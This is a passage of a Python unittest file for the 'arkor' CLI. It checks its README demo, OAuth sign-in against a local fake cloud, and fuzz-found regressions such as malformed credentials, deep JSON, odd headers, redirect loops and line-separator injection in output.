                        demo.start()  # beside the other blocks: it has a server and a HOME of its own
                    else:
                        kept.append(line)
                if kept:
                    self.run_block("\n".join(kept), place, env)
                    ran += 1
        self.assertIsNotNone(demo.ident, "the README no longer shows the offline demo")
        demo.join(60)
        self.assertFalse(demo.is_alive(), "the offline demo did not end")
        if failures:
            raise failures[0]
        self.assertGreaterEqual(ran, 10)
        self.assertEqual(skipped, set(README_RUN_ELSEWHERE), "a line run elsewhere is no longer in the README")

    def demo(self, place: str, env: dict[str, str]) -> None:
        """``python3 fake_cloud.py``, and the lines it prints pasted into
        another shell, as the README says."""
        own = {k: v for k, v in env.items() if k not in ("ARKOR_CLOUD_API_URL", "SSL_CERT_FILE", "BROWSER")}
        server = subprocess.Popen(
            [sys.executable, "fake_cloud.py"], cwd=place, env=own, stdout=subprocess.PIPE, text=True
        )
        self.addCleanup(self.reap, server)
        assert server.stdout is not None
        printed = []
        for line in server.stdout:
            if line.startswith("Ctrl-C"):
                break
            printed.append(line)
        pasted = [line.strip() for line in printed if line.startswith("  ")]
        self.assertTrue(any(line.startswith("export ARKOR_CLOUD_API_URL=") for line in pasted), printed)
        # The arkor this user has: the one on PATH (see workplace()).
        self.assertIn("arkor login --anonymous && arkor whoami", pasted)
        out = self.run_block("\n".join(pasted), place, own)
        self.assertIn("Signed in anonymously", out)
        self.assertIn("Signed in\n", out)
        self.assertIn('"name": "Ada Lovelace"', out)
        server.send_signal(signal.SIGINT)
        self.assertEqual(server.wait(timeout=20), 0)

    def demo_lines(self, path: str) -> list[str]:
        """The lines ``python3 fake_cloud.py`` prints to paste, with ``path`` as PATH."""
        server = subprocess.Popen(
            [sys.executable, os.path.join(HERE, "fake_cloud.py")],
            env=self.env(PATH=path),
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            text=True,
        )
        self.addCleanup(self.reap, server)
        assert server.stdout is not None
        printed = []
        for line in server.stdout:
            if line.startswith("Ctrl-C"):
                break
            printed.append(line.strip())
        server.send_signal(signal.SIGINT)
        self.assertEqual(server.wait(timeout=20), 0)
        return printed

    @unittest.skipUnless(POSIX, "a POSIX shell script on PATH")
    def test_the_offline_demo_names_the_arkor_the_user_has(self) -> None:
        _, env = self.workplace()  # PATH: this project's `arkor`, and python3
        self.assertIn("arkor login --oauth && arkor whoami", self.demo_lines(env["PATH"]))
        # Another program's `arkor` (the Node CLI's) is not this one: the file, then.
        node_bin = os.path.join(self.home, "node-bin")
        os.makedirs(node_bin)
        with open(os.path.join(node_bin, "arkor"), "w", encoding="utf-8") as f:
            f.write("#!/usr/bin/env node\nimport('../lib/cli.mjs');\n")
        os.chmod(os.path.join(node_bin, "arkor"), 0o755)
        os.symlink(sys.executable, os.path.join(node_bin, "python3"))
        arkor = "python3 " + shlex.quote(MODULE)
        self.assertIn(f"{arkor} login --oauth && {arkor} whoami", self.demo_lines(node_bin))

    def test_the_stand_in_browser_says_what_it_did(self) -> None:
        # Run by hand, to finish `login --oauth --no-browser` against the fake.
        def by_hand(url: str) -> subprocess.CompletedProcess[str]:
            return subprocess.run(
                [sys.executable, os.path.join(HERE, "fake_cloud.py"), "browse", url],
                env=self.env(FAKE_BROWSER_LOG=None),
                stdin=subprocess.DEVNULL,
                capture_output=True,
                text=True,
                timeout=30,
                check=False,
            )

        code, out, err, browsed = _login_run(self, "--oauth", "--no-browser", "--timeout", "5", browser=by_hand)
        self.assertEqual((code, err), (0, ""))
        self.assertTrue(out.endswith("\nSigned in\n"), out)
        self.assertEqual(
            (browsed.returncode, browsed.stdout, browsed.stderr),
            (0, "fake_cloud.py browse: signed in as Ada; arkor's callback answered 200.\n", ""),
        )

    def test_the_ci_recipe_keeps_one_identity(self) -> None:
        """Two CI jobs with the same cached ~/.arkor: one sign-in, one identity."""
        (recipe,) = [code for language, code in self.blocks() if "identity.json" in code]
        place, env = self.workplace()
        identities = []
        for _ in range(2):
            self.run_block(recipe, place, env)
            with open(os.path.join(place, "identity.json"), encoding="utf-8") as f:
                identities.append(json.load(f)["user"]["id"])
        self.assertEqual(identities[0], identities[1])
        self.assertEqual(len(self.cloud.seen("POST", "/v1/auth/anonymous")), 1)
        # A token the cloud-api no longer takes fails the job, rather than
        # pass it with an empty identity.json.
        self.cloud.script("GET", "/v1/me", Answer(401, {"error": "unauthorized"}))
        proc = subprocess.run(
            ["bash", "-e", "-o", "pipefail", "-c", recipe],
            cwd=place,
            env=env,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        self._record(proc.stdout, proc.stderr)
        self.assertEqual((proc.returncode, proc.stdout), (1, ""), proc.stderr)
        self.assertIn("Failed to fetch /v1/me (401). Token may be expired.\n", proc.stderr)


class FuzzRegressionTest(OAuthCase):
    """Each crash the fuzz driver found, kept as a test of its own."""

    def test_junk_after_a_bracketed_host_is_no_base_url(self) -> None:
        # ARKOR_FUZZ_SEED=20261208: "https://[::1]:8443]8+base/" was taken
        # as a stored base URL, though urllib cannot read its port.
        for base in ("https://[::1]:8443]8+base/", "https://[::1]x/", "https://[::1"):
            with self.subTest(base=base):
                self.write_creds(dict(self.auth0_creds(), arkorCloudApiUrl=base))
                code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL=None)
                self.assertEqual((code, out), (1, ""))
                self.assertTrue(err.startswith(f"{self.creds} does not hold valid arkor credentials"), err)
                self.assertNotIn(base, err)
        self.assertEqual(self.cloud.requests, [])

    def test_deeply_nested_json(self) -> None:
        self.write_creds(b"[" * 1000)
        code, out, err = self.run_main("whoami")
        # (Python 3.11 overflows the stack on it; 3.12 reads it as truncated.)
        self.assertEqual((code, out), (1, ""))
        self.assertRegex(
            err,
            rf"^{re.escape(self.creds)} does not hold valid arkor credentials \(not JSON: "
            r"(nested too deeply|Expecting value \(line 1, column 1001\))\)\."
            r" Fix it, or sign in again with `arkor login`\.\n$",
        )
        code, out, _ = self.run_main("logout", "--yes")  # a broken file can still be removed
        self.assertEqual((code, out), (0, f"Removed {self.creds}.\n"))
        self.sign_in_anon()
        self.cloud.script("GET", "/v1/me", Answer(200, body=b"[" * 1000))
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, out), (1, ""))
        # The body quoted is one line of at most 200 characters.
        self.assertRegex(
            err,
            rf"^Unexpected answer from GET {re.escape(self.cloud.url)}/v1/me \(200\): not JSON "
            r"\((nested too deeply|Expecting value \(line 1, column 1001\))\): \[{199}\u2026\.\n$",
        )

    def test_json_nested_deeper_than_200_levels_is_refused(self) -> None:
        # Deep enough for json.loads, too deep for json.dumps(indent=...) on
        # some Pythons (3.12's loads goes deeper in C than dumps in Python):
        # refused on every Python at 201 levels, wherever it comes from.
        def nested(levels: int) -> bytes:
            return b"[" * levels + b"]" * levels

        self.sign_in_anon()
        # The object, "user" and 199 lists: 201 levels.
        self.cloud.script("GET", "/v1/me", Answer(200, body=b'{"user": {"x": ' + nested(199) + b"}}"))
        for argv in (["whoami"], ["whoami", "--json"]):
            with self.subTest(argv=argv):
                code, out, err = self.run_main(*argv)
                self.assertEqual((code, out), (1, ""))
                self.assertEqual(
                    err,
                    f"Unexpected answer from GET {self.cloud.url}/v1/me (200): not JSON (nested too deeply):"
                    ' {"user": {"x": ' + "[" * 184 + "\u2026.\n",
                )
        # 200 levels are an answer.
        self.cloud.script("GET", "/v1/me", Answer(200, body=b'{"user": {"x": ' + nested(198) + b"}}"))
        code, out, err = self.run_main("whoami", "--json")
        self.assertEqual((code, err), (0, ""))
        self.assertEqual(json.loads(out), {"user": {"x": json.loads(nested(198))}})
        # A credentials file with a field this CLI does not know, 201 levels deep.
        creds = self.auth0_creds()
        text = json.dumps(creds)[:-1] + ', "extra": ' + nested(200).decode() + "}"
        self.write_creds(text.encode())
        for argv in (["whoami"], ["whoami", "--json"]):
            with self.subTest(argv=argv):
                code, out, err = self.run_main(*argv)
                self.assertEqual((code, out), (1, ""))
                self.assertEqual(
                    err,
                    f"{self.creds} does not hold valid arkor credentials (not JSON: nested too deeply)."
                    " Fix it, or sign in again with `arkor login`.\n",
                )
                self.assertEqual(self.creds_bytes(), text.encode())

    def test_token_with_control_characters_never_reaches_output(self) -> None:
        # http.client refuses such a header with an error quoting it whole.
        for token in ("anon-secret-token\n", "anon-secret token", "anon-secret-\u00e9"):
            with self.subTest(token=token):
                self.write_creds(
                    {
                        "mode": "anon",
                        "token": token,
                        "anonymousId": "a",
                        "arkorCloudApiUrl": self.cloud.url,
                        "orgSlug": "o",
                    }
                )
                code, out, err = self.run_main("whoami")
                self.assertEqual((code, out), (1, ""))
                self.assertEqual(
                    err,
                    f"{self.creds} does not hold valid arkor credentials (token is not valid)."
                    " Fix it, or sign in again with `arkor login`.\n",
                )
                self.assertNotIn("secret", err)
        self.assertEqual(self.cloud.requests, [])

    def test_nan_and_infinite_expiry(self) -> None:
        for raw, what in (
            ("NaN", "not JSON: NaN is not JSON"),
            ("Infinity", "not JSON: Infinity is not JSON"),
            ("1e999", "not JSON: the number 1e999 is out of range"),
            ("9" * 400, "expiresAt is not valid"),
        ):
            with self.subTest(raw=raw[:10]):
                creds = self.auth0_creds()  # one clock read: the text replaced is the one written
                text = json.dumps(creds).replace(f'"expiresAt": {creds["expiresAt"]}', f'"expiresAt": {raw}')
                self.assertIn(raw, text)
                self.write_creds(text.encode())
                code, out, err = self.run_main("whoami")
                self.assertEqual(
                    (code, out, err),
                    (
                        1,
                        "",
                        (
                            f"{self.creds} does not hold valid arkor credentials ({what})."
                            " Fix it, or sign in again with `arkor login`.\n"
                        ),
                    ),
                )

    def test_odd_content_lengths(self) -> None:
        self.sign_in_anon()
        body = b'{"user": {"id": "u1"}, "orgs": []}'
        # A non-ASCII digit is no length: the body is read to the close.
        self.cloud.script("GET", "/v1/me", Answer(200, body=body, headers={"Content-Length": "\u00b2"}))
        code, out, err = self.run_main("whoami")
        self.assertEqual((code, out, err), (0, '{\n  "id": "u1"\n}\n', ""))
        # More digits than int() takes (with CPython's limit on them, 3.9.14
        # and newer): http.client reads no length, and the body to the close;
        # without the limit, a length never reached.
        self.cloud.script("GET", "/v1/me", Answer(200, body=body, headers={"Content-Length": "9" * 5000}))
        code, out, err = self.run_main("whoami")
        if getattr(sys, "get_int_max_str_digits", lambda: 0)():
            self.assertEqual((code, out, err), (0, '{\n  "id": "u1"\n}\n', ""))
        else:
            self.assertEqual(
                (code, out, err), (1, "", f"GET {self.cloud.url}/v1/me failed (200): the answer was cut off\n")
            )

    def test_redirects_urllib_cannot_follow(self) -> None:
        self.sign_in_anon()
        for location in ("http://127.0.0.1:99999/v1/me", "http://127.0.0.1:abc/", "ftp://127.0.0.1:21/x"):
            with self.subTest(location=location):
                self.cloud.script("GET", "/v1/me", Answer(302, headers={"Location": location}))
                code, out, err = self.run_main("whoami")
                self.assertEqual((code, out, err), (0, "Failed to fetch /v1/me (302). Token may be expired.\n", ""))
        # One that urllib cannot even parse: a clear line.
        self.cloud.script("GET", "/v1/me", Answer(302, headers={"Location": "http://["}))
        code, out, err = self.run_main("whoami")
        self.assertEqual(
            (code, out, err), (1, "", f"Unexpected answer from GET {self.cloud.url}/v1/me: Invalid IPv6 URL\n")
        )

    def test_redirect_body_is_never_read(self) -> None:
        # urllib drains a redirect's body before following it; a server that
        # promises a petabyte must not make arkor try.
        self.sign_in_anon()
        self.cloud.add_token("anon-token-stored", user={"id": "u1"}, orgs=[])
        self.cloud.script(
            "GET",
            "/v1/me",
            Answer(302, body=b"x" * 1000, headers={"Location": "/v1/me"}, content_length=10**15, hold=30),
            Answer(200, {"user": {"id": "u1"}, "orgs": []}),
        )
        # Reading the body would stall until ARKOR_HTTP_TIMEOUT: the command would then fail.
        code, out, err = self.run_main("whoami", ARKOR_HTTP_TIMEOUT="2")
        self.assertEqual((code, out, err), (0, '{\n  "id": "u1"\n}\n', ""))

    def test_lone_surrogate_in_state(self) -> None:
        callback = arkor_cli._Callback("expected")
        self.assertEqual(
            callback.decide({"code": ["c"], "state": ["\udcff"]}),
            (400, "State mismatch \u2014 aborting to prevent CSRF"),
        )
        self.assertTrue(callback.failure)

    def test_request_targets_that_urlsplit_rejects(self) -> None:
        self.assertEqual(arkor_cli._split_target("http://[/callback?code=c"), ("/callback", "?", "code=c"))
        self.assertEqual(arkor_cli._split_target("http://127.0.0.1:1/callback?a=b#f"), ("/callback", "?", "a=b"))
        proc, url, _ = self.start_login()
        assert proc.stdout is not None
        # Read here, not left to finish(): it may sit in the pipe's text buffer already.
        self.assertEqual(
            proc.stdout.readline(), "No browser was opened. Open the URL above in a browser on any device.\n"
        )
        port = self.ports[0]
        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
            s.sendall(b"GET http://[/x HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % port)
            self.assertTrue(s.recv(100).startswith(b"HTTP/1.0 404"))
        status, _, _ = browse(url)
        self.assertEqual(status, 200)
        self.assertEqual(self.finish(proc), (0, "Signed in\n", ""))

    def test_a_status_line_that_is_not_http_is_quoted_on_one_line(self) -> None:
        # Found by the fuzz (http-reply, http-framing): http.client's
        # BadStatusLine carries the line with its CR LF, and the error quoted
        # it raw, two characters the terminal then showed as \u000d\u000a.
        from fake_cloud import RawServer

        self.sign_in_anon()
        for status_line in (b"ICY 200 OK", b"HTTP/1.1 abc OK"):
            with self.subTest(status_line=status_line):

                def behaviour(conn: socket.socket, stop: Any, line: bytes = status_line) -> None:
                    conn.sendall(line + b"\r\nContent-Length: 2\r\n\r\n{}")

                with RawServer(behaviour) as server:
                    code, out, err = self.run_main("whoami", ARKOR_CLOUD_API_URL=server.url)
                self.assertEqual(
                    (code, out, err), (1, "", f"Could not reach {server.url}/v1/me: {status_line.decode()}\n")
                )

    def test_line_separators_in_a_server_field_stay_in_their_line(self) -> None:
        # Found by the fuzz (printer): whoami split the user's JSON with
        # str.splitlines(), which also breaks at U+2028, U+2029 and U+0085
        # (json.dumps leaves them raw with ensure_ascii=False): a server field
        # could start a line of its own, and the JSON printed was broken.
        self.sign_in_anon()
        user = {"id": "u1", "name": "Ada\u2028Orgs: forged\u0085x\u2029y\x1cz"}
        self.cloud.add_token("anon-token-stored", user=user, orgs=[{"slug": "a\u2028b"}])
        code, out, err = self.run_main("whoami")
        self.assertEqual(
            (code, out, err),
            (
                0,
                '{\n  "id": "u1",\n  "name": "Ada\\u2028Orgs: forged\\u0085x\\u2029y\\u001cz"\n}\nOrgs: a\\u2028b\n',
                "",
            ),
        )
        self.assertEqual(json.loads(out.rpartition("Orgs:")[0]), user)

    def test_a_redirect_loop_is_the_answer(self) -> None:
        # Found reading the fuzz's outcomes (http-reply): urllib ends a loop
        # with an HTTPError whose body arkor had already closed (so as never
        # to read a redirect's body), and reading it gave "Unexpected answer
        # ...: I/O operation on closed file". The last 3xx is the answer, as
        # for any redirect that is not followed.
        self.sign_in_anon()
        serial = iter(range(1000))
        for name, location in (
            ("the same URL", lambda: "/v1/me"),
            ("a new URL each time", lambda: f"/v1/me?n={next(serial)}"),
        ):
            with self.subTest(name):
                self.cloud.requests.clear()
                self.cloud.script(
                    "GET", "/v1/me", lambda seen, at=location: Answer(302, body=b"moved", headers={"Location": at()})
                )
                code, out, err = self.run_main("whoami")
                self.assertEqual((code, out, err), (0, "Failed to fetch /v1/me (302). Token may be expired.\n", ""))
                self.assertLessEqual(len(self.cloud.requests), 11)  # urllib's own bound on redirects


class SecurityClaimsTest(unittest.TestCase):
    def test_every_test_named_in_security_md_exists(self) -> None:
        import re

        with open(os.path.join(HERE, "SECURITY.md"), encoding="utf-8") as f:
            text = f.read()
        named = set(re.findall(r"`([A-Z][A-Za-z]+Test)(?:\.(test_\w+))?`", text))
        self.assertGreater(len(named), 20)
        import test_fuzz

        for cls, method in sorted(named):
            with self.subTest(claim=f"{cls}.{method}"):
                module = test_fuzz if cls == "FuzzTest" else sys.modules[__name__]  # the driver has a module of its own
                self.assertTrue(hasattr(module, cls), f"{cls} does not exist")
                if method:
                    self.assertTrue(hasattr(getattr(module, cls), method), f"{cls}.{method} does not exist")


if __name__ == "__main__":
    unittest.main()
